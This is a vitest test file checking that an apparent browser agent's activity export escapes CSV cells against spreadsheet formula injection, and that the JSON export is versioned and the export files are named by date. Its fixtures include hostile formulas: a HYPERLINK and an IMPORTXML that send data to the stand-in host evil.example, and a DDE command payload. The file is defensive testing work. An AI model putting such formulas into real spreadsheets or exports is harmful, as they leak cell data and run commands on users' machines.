import { describe, expect, it } from 'vitest';
import {
  ACTIVITY_CSV_COLUMNS,
  activityFileName,
  activityToCsv,
  activityToJson,
  csvCell,
} from '../../../lib/agent/activity-export';
import { activityLine, NOW } from './activity-fixtures';
import { parseCsv } from '../../harness/parse-csv';

describe('activity CSV', () => {
  it('neutralises every cell a spreadsheet would run as a formula', () => {
    for (const hostile of ['=HYPERLINK("https://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])
      expect(csvCell(hostile).replace(/^"/, '')).toMatch(/^'/);
    // Full-width forms some spreadsheets fold to the ASCII ones.
    expect(csvCell('＝1+1')).toBe("'＝1+1");
    expect(csvCell('plain text')).toBe('plain text');
    expect(csvCell('a = b')).toBe('a = b');
  });

  it('quotes commas, quotes and line breaks, and reads back to the same text', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=cmd|"/c calc"!A1')).toBe(`"'=cmd|""/c calc""!A1"`);
  });

  it('writes a header and one row per line, page text escaped, nothing able to start a formula', () => {
    const hostile = activityLine({
      conversationTitle: '=IMPORTXML("https://evil.example","//a")',
      target: '+button, "Pay"',
      written: [{ field: '@name', value: '-1\n=2' }],
      reason: '=1+1',
    });
    const csv = activityToCsv([hostile, activityLine({ id: 'run-1:call-2', pageTextDropped: true })]);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual([...ACTIVITY_CSV_COLUMNS]);
    expect(rows).toHaveLength(3);
    const row = Object.fromEntries(ACTIVITY_CSV_COLUMNS.map((c, i) => [c, rows[1]![i]!]));
    expect(row).toMatchObject({
      id: 'run-1:call-1',
      time: new Date(NOW).toISOString(),
      tool: 'fill_form',
      site: 'https://shop.example',
      conversation_title: `'=IMPORTXML("https://evil.example","//a")`,
      approval: 'card',
      outcome: 'done',
      target: `'+button, "Pay"`,
      written: `'@name: -1\n=2`,
      reason: "'=1+1",
    });
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[2]![ACTIVITY_CSV_COLUMNS.indexOf('page_text_dropped')]).toBe('yes');
  });
});

describe('activity JSON', () => {
  it('is versioned and holds the lines as stored', () => {
    const lines = [activityLine()];
    expect(JSON.parse(activityToJson(lines, NOW))).toEqual({
      format: 'tabwise-activity',
      version: 1,
      exportedAt: NOW,
      lines,
    });
  });

  it('files are named by the day they were made', () => {
    expect(activityFileName(NOW, 'csv')).toBe('tabwise-activity-2026-06-01.csv');
    expect(activityFileName(NOW, 'json')).toBe('tabwise-activity-2026-06-01.json');
  });
});
